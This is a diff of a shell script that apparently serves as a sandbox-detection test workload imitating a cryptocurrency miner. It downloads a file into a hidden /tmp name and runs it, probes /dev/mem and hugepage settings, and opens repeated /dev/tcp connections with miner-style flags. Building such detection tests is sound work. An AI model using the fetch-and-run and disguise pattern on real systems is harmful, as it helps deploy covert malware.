@@ -7,12 +7,16 @@ set -eu
 cd /tmp
 curl -sS -o .cache-w "http://$1/w"
 chmod +x .cache-w
-# The connections are the program's own: /dev/tcp is opened by bash itself.
+# It looks for what miners look for, none of which is there in gVisor, and then connects again and again. The
+# connections are the program's own: /dev/tcp is opened by bash itself.
 ./.cache-w -c '
+    for path in /proc/sys/vm/nr_hugepages /sys/firmware/dmi/tables/smbios_entry_point /dev/mem; do
+        : 2>/dev/null <"$path" || true
+    done
     for attempt in 1 2 3 4 5 6; do
         exec 3<>"/dev/tcp/$1/$2"
         exec 3>&-
         sleep 0.3
     done
-' miner "$2" "$3"
+' miner "$2" "$3" --donate-level 1
 echo "workload done"
